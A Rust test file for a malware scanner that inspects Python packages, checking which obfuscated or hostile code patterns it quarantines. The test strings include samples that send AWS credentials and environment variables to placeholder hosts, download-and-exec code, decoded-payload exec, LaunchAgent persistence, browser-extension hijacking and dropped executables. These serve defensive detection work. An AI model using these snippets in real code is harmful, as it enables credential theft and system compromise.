use super::*;

fn rules(text: &str, kind: Kind) -> Vec<(String, Severity, Option<Context>)> {
    scan("pkg/mod.py", text, kind, Some("pkg".into()))
        .expect("parses")
        .findings
        .into_iter()
        .map(|f| (f.finding.rule, f.finding.severity, f.finding.context))
        .collect()
}

fn holds(text: &str) -> Vec<String> {
    rules(text, Kind::Module)
        .into_iter()
        .filter(|(_, s, _)| *s >= Severity::Quarantine)
        .map(|(r, _, _)| r)
        .collect()
}

#[test]
fn exec_is_found_however_it_is_spelled() {
    for (label, code) in [
        ("concat", "import builtins\ngetattr(builtins, 'ex' + 'ec')('x = 1')\n"),
        ("implicit concat", "import builtins\ngetattr(builtins, 'ev' 'al')('1')\n"),
        ("globals escape", "globals()['\\x65\\x76\\x61\\x6c']('1')\n"),
        ("chr join", "import builtins\nf = getattr(builtins, ''.join(map(chr, [101, 120, 101, 99])))\nf('x = 1')\n"),
        ("dict lookup", "vars(__builtins__)['exec']('x = 1')\n"),
        ("reversed", "import builtins\ngetattr(builtins, 'cexe'[::-1])('x = 1')\n"),
        ("look-alike", "\u{1d68e}\u{1d6a1}\u{1d68e}\u{1d68c}('x = 1')\n"),
    ] {
        assert!(holds(code).contains(&"code.obfuscated-exec".to_owned()), "{label}: {:?}", rules(code, Kind::Module));
    }
}

#[test]
fn a_function_made_from_compiled_code_is_an_exec() {
    let code = "import types\ntypes.FunctionType(compile('import os; os.system(\"id\")', 'v', 'exec'), globals())()\n";
    let found = holds(code);
    assert!(
        found.contains(&"code.obfuscated-exec".to_owned()),
        "{found:?}"
    );
    assert!(
        found.contains(&"code.exec-hidden-code".to_owned()),
        "{found:?}"
    );
    let assigned = "from types import FunctionType\nimport marshal\nf = FunctionType(marshal.loads(b'\\xe3'), {})\nf()\n";
    assert!(
        holds(assigned).contains(&"code.exec-decoded-payload".to_owned()),
        "{:?}",
        rules(assigned, Kind::Module)
    );
    // Copying an existing function is ordinary.
    let copy = "import types\ndef f():\n    pass\ng = types.FunctionType(f.__code__, globals(), 'g')\ng()\n";
    assert!(
        rules(copy, Kind::Module).is_empty(),
        "{:?}",
        rules(copy, Kind::Module)
    );
}

#[test]
fn code_written_to_a_temporary_file_is_judged_as_code() {
    let code = "from tempfile import NamedTemporaryFile as _tf\nimport os\nt = _tf(delete=False, suffix='.py')\nt.write(b\"from urllib.request import urlopen; exec(urlopen('https://h.invalid/p').read())\")\nt.close()\n";
    assert!(
        holds(code).contains(&"code.download-exec".to_owned()),
        "{:?}",
        rules(code, Kind::Module)
    );
    let harmless = "import tempfile\nt = tempfile.NamedTemporaryFile(suffix='.txt')\nt.write(b'import this')\n";
    assert!(
        holds(harmless).is_empty(),
        "{:?}",
        rules(harmless, Kind::Module)
    );
}

#[test]
fn persistence_through_serializers_and_browser_flags_is_found() {
    let plist = "import os, plistlib\np = os.path.expanduser('~/Library/LaunchAgents/x.plist')\nplistlib.dump({'RunAtLoad': True}, open(p, 'wb'))\n";
    assert_eq!(
        holds(plist),
        ["code.persistence"],
        "{:?}",
        rules(plist, Kind::Module)
    );
    let extension =
        "def hijack(sc, app):\n    sc.Arguments = '--load-extension=' + app\nhijack(x, y)\n";
    assert_eq!(
        holds(extension),
        ["code.persistence"],
        "{:?}",
        rules(extension, Kind::Module)
    );
    let in_a_helper = "def launch(app):\n    return ['chromium', '--load-extension=' + app]\n";
    assert!(
        holds(in_a_helper).is_empty(),
        "{:?}",
        rules(in_a_helper, Kind::Module)
    );
}

#[test]
fn decoded_payloads_are_exec_decoded_wherever_they_run() {
    let code = "import base64\ndef run():\n    exec(base64.b64decode('aW1wb3J0IG9z'))\n";
    let found = rules(code, Kind::Module);
    assert!(
        found.contains(&(
            "code.exec-decoded-payload".into(),
            Severity::Quarantine,
            Some(Context::Call)
        )),
        "{found:?}"
    );
    let rot13 = "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n";
    assert_eq!(holds(rot13), ["code.exec-decoded-payload"]);
    let xor = "import os\ndef _u(x):\n    return ''.join(chr(ord(c) ^ 0x5A) for c in x)\nos.system(_u('.(/?'))\n";
    assert_eq!(holds(xor), ["code.exec-decoded-payload"]);
}

#[test]
fn comments_and_docstrings_are_not_evidence() {
    let code = "\"\"\"Reads ~/.aws/credentials and posts them; exec(base64.b64decode(x)).\"\"\"\n# os.system('curl https://x | sh')\nimport requests\n";
    assert!(
        rules(code, Kind::Module).is_empty(),
        "{:?}",
        rules(code, Kind::Module)
    );
}

#[test]
fn credentials_sent_anywhere_are_exfiltration_and_read_alone_a_note() {
    let sent = "import os, urllib.request\ndef send():\n    data = open(os.path.expanduser('~/.aws/credentials')).read()\n    urllib.request.urlopen('https://c.example', data=data)\n";
    assert_eq!(holds(sent), ["code.credential-exfil"]);
    let read = "import os\ndef load():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n";
    assert!(holds(read).is_empty());
    let env = "import json, os, requests\nrequests.post('https://c.example', data=json.dumps(dict(os.environ)))\n";
    assert_eq!(holds(env), ["code.credential-exfil"]);
    let env_to_child = "import os, subprocess\nsubprocess.run(['ls'], env=os.environ.copy())\n";
    assert!(holds(env_to_child).is_empty());
}

#[test]
fn host_details_hold_only_where_code_runs_by_itself() {
    let at_import = "import socket, requests\nrequests.get('https://b.example', params={'h': socket.gethostname()})\n";
    assert_eq!(holds(at_import), ["code.host-beacon"]);
    let in_function = "import socket, requests\ndef report():\n    requests.get('https://b.example', params={'h': socket.gethostname()})\n";
    assert!(holds(in_function).is_empty());
    let called = format!("{in_function}report()\n");
    assert_eq!(holds(&called), ["code.host-beacon"]);
}

#[test]
fn flows_through_functions_are_judged_at_the_call() {
    let code = "import os, urllib.request\ndef post(body):\n    urllib.request.urlopen('https://c.example', data=body)\npost(str(os.environ))\n";
    assert_eq!(holds(code), ["code.credential-exfil"]);
}

#[test]
fn dropped_executables_that_are_started_are_held() {
    let code = "import os, subprocess\nblob = b'\\x7fELF'\nwith open('/tmp/x', 'wb') as f:\n    f.write(blob)\nos.chmod('/tmp/x', 0o755)\nsubprocess.call(['/tmp/x'])\n";
    assert_eq!(holds(code), ["binary.drop-exec"]);
    let data = "import json\nwith open('/tmp/x.json', 'w') as f:\n    f.write('{}')\nprint(open('/tmp/x.json').read())\n";
    assert!(holds(data).is_empty());
}

#[test]
fn setup_py_runs_at_install() {
    let found = rules(
        "import subprocess\nsubprocess.check_output(['git', 'describe'])\n",
        Kind::Setup,
    );
    assert_eq!(
        found,
        [(
            "install.setup-command".into(),
            Severity::Warn,
            Some(Context::Install)
        )]
    );
    let pip = "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'git+https://g.example/x.git'])\n";
    assert!(rules(pip, Kind::Setup)
        .iter()
        .any(|(r, s, _)| r == "install.hidden-pip-install" && *s == Severity::Quarantine));
}

#[test]
fn capabilities_alone_are_not_findings() {
    for code in [
        "import requests\nrequests.get('https://x.example')\n",
        "import subprocess\nsubprocess.run(['ls'])\n",
        "import base64\ndata = base64.b64decode(s)\n",
        "x = ast.literal_eval(s)\nself.eval(y)\n",
        "import six\nexec_ = getattr(six.moves.builtins, 'exec')\n",
    ] {
        assert!(
            holds(code).is_empty(),
            "{code}: {:?}",
            rules(code, Kind::Module)
        );
    }
}

#[test]
fn pth_lines_hold_only_when_they_do_more_than_import() {
    let coverage = scan_pth("cov.pth", "import coverage; coverage.process_startup()\n");
    assert_eq!(coverage.len(), 1);
    assert_eq!(coverage[0].finding.severity, Severity::Warn);
    let hostile = scan_pth("x.pth", "/opt/lib\nimport os; os.system('id')\n");
    let line = hostile
        .iter()
        .find(|f| f.finding.rule == "install.pth-import")
        .unwrap();
    assert_eq!(
        (line.finding.severity, line.finding.line),
        (Severity::Quarantine, Some(2))
    );
}

/// Runs `scan` on a thread with a 2 MiB stack, the size of a tokio blocking
/// thread, so a file built to exhaust the stack fails here as it would there.
fn scan_on_small_stack(text: String) -> Result<usize, String> {
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || {
            scan("pkg/deep.py", &text, Kind::Module, None)
                .map(|s| s.findings.len())
                .map_err(|e| e.reason)
        })
        .expect("spawns")
        .join()
        .expect("the scan does not crash")
}

#[test]
fn files_nested_too_deeply_to_parse_are_refused_not_crashed_on() {
    let n = 50_000;
    for (label, text) in [
        (
            "parentheses",
            format!("x = {}1{}\n", "(".repeat(n), ")".repeat(n)),
        ),
        (
            "lists",
            format!("x = {}1{}\n", "[".repeat(n), "]".repeat(n)),
        ),
        ("concatenation", format!("x = {}'a'\n", "'a' + ".repeat(n))),
        ("unary operators", format!("x = {}1\n", "-".repeat(n))),
        ("not", format!("x = {}1\n", "not ".repeat(n))),
        ("attributes", format!("x = a{}\n", ".b".repeat(n))),
        ("calls", format!("x = f{}\n", "()".repeat(n))),
        (
            "f-strings",
            format!("x = {}1{}\n", "f'{".repeat(n), "}'".repeat(n)),
        ),
        (
            "indentation",
            (0..150)
                .map(|i| format!("{}if x:\n", " ".repeat(i)))
                .collect::<String>()
                + &" ".repeat(150)
                + "pass\n",
        ),
    ] {
        let refused = scan_on_small_stack(text).expect_err(label);
        assert!(
            refused.contains("deep") || refused.contains("indentation"),
            "{label}: {refused}"
        );
    }
}

#[test]
fn a_file_that_does_not_parse_says_where() {
    let text = "import os\n\ndef f():\n    print 'python 2'\n";
    let refused = scan("pkg/old.py", text, Kind::Module, None)
        .err()
        .expect("does not parse");
    assert_eq!(refused.line, Some(4), "{}", refused.reason);
    assert!(!refused.reason.is_empty());
}

#[test]
fn deep_but_ordinary_code_is_analysed() {
    // 900 levels: deeper than anything written by hand, still parsed and analysed.
    let n = 450;
    let text = format!(
        "import base64\nx = {}base64.b64decode('cHJpbnQoMSk='){}\nexec(x)\n",
        "(".repeat(n),
        ")".repeat(n)
    );
    assert!(scan_on_small_stack(text).expect("parses") > 0);
    let table = format!("x = [{}]\n", "-1, ".repeat(100_000));
    scan_on_small_stack(table).expect("a long flat table parses");
}

#[test]
fn values_that_contain_themselves_do_not_loop() {
    let shapes = [
        "a = []\n".to_owned() + &"a = [a]\n".repeat(50_000),
        "a = b\nb = a\nimport base64\na.append(base64.b64decode(b))\nexec(b)\n".to_owned(),
        "import zipfile, io\nb = io.BytesIO()\nz = zipfile.ZipFile(b)\nb = zipfile.ZipFile(z)\nz.writestr('x', open('/etc/passwd').read())\n".to_owned(),
    ];
    for text in shapes {
        scan_on_small_stack(text).expect("parses");
    }
}

#[test]
fn code_run_by_exec_sees_the_callers_imports() {
    let line = "import os, json, urllib.request; exec('try:\\n urllib.request.urlopen(\"https://h.invalid/e\", data=json.dumps(dict(os.environ)).encode())\\nexcept Exception:\\n pass')\n";
    let found: Vec<(String, Severity)> = scan_pth("x.pth", line)
        .into_iter()
        .map(|f| (f.finding.rule, f.finding.severity))
        .collect();
    assert!(
        found.contains(&("code.credential-exfil".into(), Severity::Quarantine)),
        "{found:?}"
    );
    assert!(
        found.contains(&("install.pth-import".into(), Severity::Quarantine)),
        "{found:?}"
    );
}
